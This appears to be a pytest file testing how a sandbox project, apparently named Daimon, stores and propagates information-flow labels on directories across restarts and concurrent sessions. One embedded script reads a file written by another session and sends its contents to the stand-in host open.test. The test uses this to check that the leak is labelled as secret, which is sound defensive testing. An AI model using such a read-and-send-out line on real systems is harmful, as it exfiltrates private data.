"""What a directory may hold is remembered, however Daimon ends, and goes with whatever leaves a box on it."""

import asyncio
from pathlib import Path

import pytest
from tests.workshop_rig import workshop

from daimon.abi.box import Command, Place
from daimon.abi.errors import ToolFailed
from daimon.abi.label import EMPTY, UNLABELLED, Author, Label, Origin
from daimon.marks import Marks
from daimon.sandbox.plan import has_bwrap

SECRET = Label.of(Origin(Author.STRANGER, "mail:bob"), readers=("owner",))
OTHER = Label.of(Origin(Author.OWNER, "terminal"))
WAITS = """
import os, time, urllib.request as u
open("waiting", "w").close()
while not os.path.exists("x"): time.sleep(0.02)
u.urlopen("http://open.test/" + open("x").read(), timeout=20).read()
"""


def test_a_label_is_there_after_a_restart(tmp_path: Path) -> None:
    Marks.at(tmp_path / "marks").of("/a").join(SECRET)
    again = Marks.at(tmp_path / "marks")
    again.of("/b").join(OTHER)
    assert Marks.at(tmp_path / "marks").labels == {"/a": SECRET, "/b": OTHER}


@pytest.mark.parametrize("damage", [b"", b"{", b'{"/a": 1}', b"\xff"])
def test_what_cannot_be_read_counts_as_the_worst(tmp_path: Path, damage: bytes) -> None:
    (tmp_path / "marks").write_bytes(damage)
    found = Marks.at(tmp_path / "marks")
    found.of("/a").join(OTHER)
    assert found.of("/a").label == UNLABELLED.joined(OTHER) == Marks.at(tmp_path / "marks").of("/a").label


def test_what_cannot_be_written_down_is_refused_until_it_can(tmp_path: Path) -> None:
    mark = Marks.at(tmp_path / "not there" / "marks").of("/a")
    for _ in range(2):
        with pytest.raises(ToolFailed, match="cannot be written down"):
            mark.join(SECRET)
    (tmp_path / "not there").mkdir()
    mark.join(SECRET)
    assert Marks.at(tmp_path / "not there" / "marks").labels == {"/a": SECRET}


def test_without_a_file_labels_are_joined_all_the_same() -> None:
    found = Marks()
    assert found.of("/a").label == EMPTY
    found.of("/a").join(SECRET)
    assert found.of("/a").label == SECRET


@pytest.mark.skipif(not has_bwrap(), reason="bwrap is not installed: no box can be made")
async def test_what_another_session_writes_while_a_command_is_online_leaves_with_its_own_label(tmp_path: Path) -> None:
    async with workshop(tmp_path) as shop, asyncio.timeout(60), shop.pool.lease("a:1") as one, shop.pool.lease("a:2") as two:
        online = Command(argv=("python3", "-c", WAITS), places=(Place("open.test"),), label=OTHER)
        running = asyncio.create_task(one.resource.run(online))
        for line, label in (("until [ -e waiting ]; do sleep 0.02; done", OTHER), ("printf secret >y; mv y x", SECRET)):
            await two.resource.run(Command(argv=("sh", "-c", line), label=label))
        (attempt,) = (await running).attempts
    assert (attempt.outcome, attempt.path, attempt.label) == ("passed", "/secret", SECRET.joined(OTHER))
